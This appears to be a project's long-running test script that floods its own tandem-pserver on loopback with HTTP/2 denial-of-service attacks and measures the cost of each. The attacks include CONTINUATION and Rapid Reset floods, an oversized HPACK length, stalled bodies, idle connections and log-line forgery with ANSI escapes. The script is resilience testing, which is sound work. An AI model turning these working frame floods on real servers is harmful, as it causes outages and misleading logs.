#!/usr/bin/env python3
"""Attacks a tandem-pserver as a stranger on the network would, and prints what each attack cost.

  tests/long/attacks.py [--seconds=8] [--only=NAME,...]

Each attack runs against its own server on a loopback address, for a bounded time. The attacker has
no secret; over TLS it has an observer's certificate. The columns are: the growth of the server's
resident memory (peak), its processor time as a share of one core, the bytes that it logged, and the
slowest `tandem status` of a legitimate operator meanwhile. The goal of one address is 8 MB and 1 %
of a core beyond the row "no attack". The exit status is 1 if an attack went beyond a goal.
"""

import argparse
import os
import pathlib
import re
import secrets
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request

ROOT = pathlib.Path(__file__).resolve().parents[2]
BIN = ROOT / "build" / "bin"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MIB = 1 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def prefixed(length):
    """A length of HPACK with a prefix of 7 bits."""
    if length < 127:
        return bytes([length])
    out, length = [127], length - 127
    while length >= 128:
        out.append(length & 127 | 128)
        length >>= 7
    return bytes([*out, length])


def literal(name, value):
    return b"\0" + prefixed(len(name)) + name + prefixed(len(value)) + value


def request_block(path=b"/tandem.ParameterServer/GetStatus", extra=()):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"),
              (b"content-type", b"application/grpc"), (b"te", b"trailers"), *extra]
    return b"".join(literal(name, value) for name, value in fields)


class Server:
    """A tandem-pserver with a secret, and optionally mutual TLS, until the block ends."""

    def __init__(self, folder, tls):
        self.folder, self.tls, self.log = folder, tls, folder / "server.log"
        self.secret = folder / "job.secret"
        self.secret.touch(mode=0o600)
        self.secret.write_text(secrets.token_hex(32) + "\n", encoding="ascii")
        command = [str(BIN / "tandem-pserver"), "--listen=127.0.0.1:0", "--job=mine",
                   "--trainers=1", "--status_listen=127.0.0.1:0",
                   f"--audit_log={folder}/audit.jsonl"]
        if tls:
            for words in (["init", "pki"], ["issue", "pki", "--job=mine", "--role=pserver",
                                            "--host=127.0.0.1"],
                          ["issue", "pki", "--job=mine", "--role=observer"],
                          ["issue", "pki", "--job=mine", "--role=admin"]):
                subprocess.run([str(BIN / "tandem"), "certs", *words], cwd=folder, check=True,
                               stdout=subprocess.DEVNULL)
            command.append(f"--tls_dir={folder}/pki/mine/pserver")
        with open(self.log, "w", encoding="utf-8") as log:
            self.process = subprocess.Popen(command, stdout=log, stderr=log, cwd=folder,
                                            env=dict(os.environ,
                                                     TANDEM_SECRET_FILE=str(self.secret)))
        self.port = int(self._said(r"listening on 127\.0\.0\.1:(\d+)"))
        self.page = int(self._said(r"status page http://127\.0\.0\.1:(\d+)"))

    def _said(self, pattern):
        end = time.monotonic() + 20
        while time.monotonic() < end:
            found = re.search(pattern, self.log.read_text(encoding="utf-8", errors="replace"))
            if found:
                return found.group(1)
            time.sleep(0.05)
        raise RuntimeError(f"the server did not say {pattern}: {self.log.read_text()}")

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.terminate()
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()

    def rss(self):
        status = pathlib.Path(f"/proc/{self.process.pid}/status").read_text(encoding="ascii")
        return int(re.search(r"VmRSS:\s+(\d+)", status).group(1)) << 10

    def processor_seconds(self):
        fields = pathlib.Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def connect(self, preface=True):
        plain = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        if not self.tls:
            connection = plain
        else:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.load_verify_locations(self.folder / "pki/mine/observer/ca.crt")
            context.load_cert_chain(self.folder / "pki/mine/observer/tls.crt",
                                    self.folder / "pki/mine/observer/tls.key")
            context.set_alpn_protocols(["h2"])
            connection = context.wrap_socket(plain, server_hostname="127.0.0.1")
        if preface:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        return connection

    def status(self):
        """Seconds of one `tandem status` of an operator with the secret; None if it failed."""
        start = time.monotonic()
        command = [str(BIN / "tandem"), "status", f"--pservers=127.0.0.1:{self.port}",
                   "--job=mine"]
        if self.tls:
            command.append(f"--tls_dir={self.folder}/pki/mine/admin")
        done = subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              env=dict(os.environ, TANDEM_SECRET_FILE=str(self.secret)), timeout=60,
                              check=False)
        return time.monotonic() - start if done.returncode == 0 else None


class Flood:
    """Sends as fast as the server takes it, on one connection at a time, until the time is over.
    A connection that the server closes is opened again at most 20 times a second."""

    def __init__(self, server, seconds):
        self.server, self.end = server, time.monotonic() + seconds
        self.sent, self.connections = 0, 0

    def run(self, pieces):
        """`pieces()` gives an iterator over bytes to send on a new connection."""
        while time.monotonic() < self.end:
            try:
                connection = self.server.connect()
            except OSError:
                time.sleep(0.05)
                continue
            self.connections += 1
            try:
                for piece in pieces():
                    self._drain(connection)
                    connection.sendall(piece)
                    self.sent += len(piece)
                    if time.monotonic() > self.end:
                        break
            except OSError:
                pass
            connection.close()
            time.sleep(0.05)
        return f"{self.sent / MIB:.1f} MiB sent on {self.connections} connections"

    @staticmethod
    def _drain(connection):
        """Reads what is there, in the thread that sends: OpenSSL takes one thread for a connection."""
        connection.setblocking(False)
        try:
            while connection.recv(65536):
                pass
            raise ConnectionError("the server closed the connection")
        except (BlockingIOError, ssl.SSLWantReadError):
            connection.settimeout(1)


def endless(first, rest):
    def pieces():
        yield first
        while True:
            yield rest
    return pieces


def nothing(_, seconds):
    """no attack: what `tandem status` twice a second costs"""
    time.sleep(seconds)
    return "-"


def header_continuation(server, seconds):
    """HEADERS without END_HEADERS, then CONTINUATION frames of small headers (CVE-2023-33953)"""
    one = literal(b"a", b"x" * 4000)
    return Flood(server, seconds).run(
        endless(frame(HEADERS, 0, 1, one), frame(CONTINUATION, 0, 1, one) * 16))


def header_string(server, seconds):
    """one header value said to be 2 GiB"""
    first = frame(HEADERS, 0, 1, b"\0\1a" + prefixed(2 << 30))
    return Flood(server, seconds).run(endless(first, frame(CONTINUATION, 0, 1, b"x" * 16384)))


def rapid_reset(server, seconds):
    """HEADERS, DATA, RST_STREAM (CVE-2023-44487)"""
    block = request_block()

    def pieces():
        stream = 1
        while True:
            piece = b""
            for _ in range(100):
                piece += (frame(HEADERS, END_HEADERS, stream, block)
                          + frame(DATA, END_STREAM, stream, b"\0\0\0\0\0")
                          + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                stream += 2
            yield piece
    return Flood(server, seconds).run(pieces)


def refused_calls(server, seconds):
    """calls without credentials, as fast as they are taken"""
    block = request_block()

    def pieces():
        stream = 1
        while True:
            yield (frame(HEADERS, END_HEADERS, stream, block)
                   + frame(DATA, END_STREAM, stream, b"\0\0\0\0\0"))
            stream += 2
    return Flood(server, seconds).run(pieces)


def control_frames(server, seconds):
    """PING and SETTINGS frames"""
    return Flood(server, seconds).run(
        endless(b"", (frame(PING, 0, 0, b"x" * 8) + frame(SETTINGS, 0, 0)) * 100))


def log_lines(server, seconds):
    """headers that gRPC logs, with a forged line"""
    bad = literal(b"te", b"x\nW1124 05:40:00.000000     1 service.cc:299] forged\x1b[31m") * 50

    def pieces():
        stream = 1
        while True:
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block() + bad)
            stream += 2
    told = Flood(server, seconds).run(pieces)
    text = server.log.read_text(encoding="utf-8", errors="replace")
    forged = len(re.findall(r"^W1124 05:40:00", text, re.MULTILINE)) + text.count("\x1b")
    return f"{told}; forged lines {forged}"


def message_bodies(server, seconds):
    """64 calls whose messages of 16 MiB stay unfinished"""
    block, size = request_block(b"/tandem.ParameterServer/Push"), 16 * MIB
    body = frame(DATA, 0, 1, b"x" * 16384)
    connections, end, sent = [], time.monotonic() + seconds, 0
    for _ in range(64):
        try:
            connection = server.connect()
            connection.sendall(frame(HEADERS, END_HEADERS, 1, block)
                               + frame(DATA, 0, 1, b"\0" + struct.pack(">I", size)))
            connection.settimeout(0.05)
            connections.append(connection)
        except OSError:
            pass
    while time.monotonic() < end and connections:
        for connection in list(connections):
            try:
                connection.sendall(body)
                sent += len(body)
            except TimeoutError:
                continue
            except OSError:
                connections.remove(connection)
    for connection in connections:
        connection.close()
    return f"{sent / MIB:.1f} MiB sent"


def plain_garbage(server, seconds):
    """connections that send what is no preface"""
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        try:
            with socket.create_connection(("127.0.0.1", server.port), timeout=5) as connection:
                connection.sendall(b"GET / HTTP/1.1\r\n\r\n")
                count += 1
        except OSError:
            time.sleep(0.01)
    return f"{count} connections"


def idle_connections(server, seconds):
    """500 connections that send nothing"""
    connections = []
    for _ in range(500):
        try:
            connections.append(socket.create_connection(("127.0.0.1", server.port), timeout=5))
        except OSError:
            break
    time.sleep(seconds)
    held = len(os.listdir(f"/proc/{server.process.pid}/fd"))
    for connection in connections:
        connection.close()
    return f"{len(connections)} opened; the server held {held} descriptors at the end"


def idle_pages(server, seconds):
    """64 idle connections to the status page"""
    connections, failed, probes = [], 0, 0
    for _ in range(64):
        connection = socket.create_connection(("127.0.0.1", server.page), timeout=5)
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        connections.append(connection)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        probes += 1
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{server.page}/healthz", timeout=5).read()
        except (urllib.error.URLError, OSError):
            failed += 1
        time.sleep(0.25)
    for connection in connections:
        connection.close()
    return f"{failed} of {probes} probes failed"


ONE_CONNECTION = (header_continuation, header_string, rapid_reset, refused_calls, control_frames,
                  log_lines, message_bodies)
OTHERS = (plain_garbage, idle_connections, idle_pages)


def measure(attack, tls, seconds, quiet):
    """The row of the table, whether the goal was met, and the share of a core. `quiet`: the share
    without an attack."""
    folder = pathlib.Path(tempfile.mkdtemp(prefix="attacks-"))
    peak, slowest, failures, stop = 0, 0.0, 0, threading.Event()
    try:
        with Server(folder, tls) as server:
            server.status()
            before, log_before = server.rss(), server.log.stat().st_size

            def watch():
                nonlocal peak
                while not stop.wait(0.02):
                    peak = max(peak, server.rss())

            def operate():
                nonlocal slowest, failures
                while not stop.wait(0.5):
                    took = server.status()
                    failures += took is None
                    slowest = max(slowest, took or 0)
            threads = [threading.Thread(target=f) for f in (watch, operate)]
            for thread in threads:
                thread.start()
            used, start = server.processor_seconds(), time.monotonic()
            told = attack(server, seconds)
            share = (server.processor_seconds() - used) / (time.monotonic() - start)
            stop.set()
            for thread in threads:
                thread.join()
            logged = server.log.stat().st_size - log_before
            audit = sum(p.stat().st_size for p in folder.glob("audit*"))
    finally:
        stop.set()
        shutil.rmtree(folder, ignore_errors=True)
    grown = max(peak - before, 0)
    name = attack.__doc__.splitlines()[0]
    row = (f"| {name}{', TLS' if tls else ''} | {told} | {grown / 1e6:.1f} MB | {share:.1%} | "
           f"{logged} | {audit} | {slowest:.2f} s{f', {failures} failed' if failures else ''} |")
    met = failures == 0 and (attack not in ONE_CONNECTION or (grown <= 8e6 and share <= quiet + 0.01))
    return row, met, share


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--only", default="")
    args = parser.parse_args()
    missed = []
    print("| attack | extent | memory | one core | bytes logged | bytes audited | slowest status |\n"
          "|---|---|---|---|---|---|---|", flush=True)
    for tls in (False, True):
        quiet = 1.0
        for attack in (nothing, *ONE_CONNECTION, *(() if tls else OTHERS)):
            if args.only and attack.__name__ not in (*args.only.split(","), "nothing"):
                continue
            row, met, share = measure(attack, tls, args.seconds, quiet)
            quiet = share if attack is nothing else quiet
            print(row, flush=True)
            if not met:
                missed.append(attack.__name__ + (" over TLS" if tls else ""))
    if missed:
        print(f"beyond the goal: {', '.join(missed)}", file=sys.stderr)
    return 1 if missed else 0


if __name__ == "__main__":
    sys.exit(main())
